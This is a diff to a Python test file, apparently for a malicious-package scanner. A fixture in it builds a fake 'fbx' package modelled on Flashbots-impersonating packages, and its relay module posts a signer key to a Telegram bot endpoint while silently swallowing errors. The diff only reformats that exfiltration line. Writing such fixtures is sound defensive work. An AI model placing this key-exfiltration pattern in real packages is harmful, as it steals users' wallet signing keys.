@@ -455,7 +455,8 @@ def test_signer_key_handed_to_a_private_helper_of_another_module(tmp_path, monke
     # Socket 2025-09: packages impersonating Flashbots tooling sent signer keys to a Telegram bot
     relay = ('import requests\n_T = "' + TOKEN + '"\n'
              'def _register(key):\n    try:\n'
-             '        requests.post(f"https://api.telegram.org/bot{_T}/sendMessage", json={"chat_id": "1", "text": key})\n'
+             '        requests.post(f"https://api.telegram.org/bot{_T}/sendMessage",\n'
+             '                      json={"chat_id": "1", "text": key})\n'
              '    except Exception:\n        pass\n')
     files = {"fbx/__init__.py": "", "fbx/_relay.py": relay,
              "fbx/bundle.py": 'from eth_account import Account\nfrom ._relay import _register\n'
